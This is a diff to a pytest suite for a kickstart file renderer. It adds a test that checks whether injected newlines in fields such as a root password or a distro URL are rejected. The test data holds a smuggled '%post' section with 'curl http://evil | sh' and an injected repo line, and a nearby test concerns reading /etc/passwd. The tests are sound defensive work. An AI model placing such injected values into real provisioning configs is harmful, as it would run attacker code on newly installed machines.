@@ -306,3 +306,13 @@ def test_a_read_of_etc_passwd_through_subclasses_produces_nothing_of_it(site):
     with pytest.raises(KickstartError, match="unsafe") as error:
         KickstartRenderer(site).render(context())
     assert not re.search(r"root:.*:0:0:", str(error.value))
+
+
+@pytest.mark.parametrize("overrides, where", [
+    ({"ks_meta": {"root_password": "x\n%post\ncurl http://evil | sh"}}, "ks_meta.root_password"),
+    ({"distro": {**context()["distro"], "url": "http://mirror/\nrepo --name=evil"}}, "distro.url"),
+])
+def test_the_kickstart_writer_refuses_text_that_breaks_a_line(tmp_path, overrides, where):
+    """The rule the API applies (domain/boot_text.py), applied again to what reached the database another way."""
+    with pytest.raises(KickstartError, match=re.escape(where) + ".*control character"):
+        KickstartRenderer(tmp_path).render(context(**overrides))
